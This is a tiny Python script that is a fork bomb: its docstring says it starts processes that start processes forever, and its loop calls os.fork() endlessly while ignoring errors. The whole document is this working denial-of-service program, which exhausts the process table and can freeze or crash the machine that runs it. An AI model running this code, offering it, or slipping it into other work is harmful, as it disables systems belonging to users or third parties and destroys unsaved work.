"""Starts processes that start processes, for ever."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
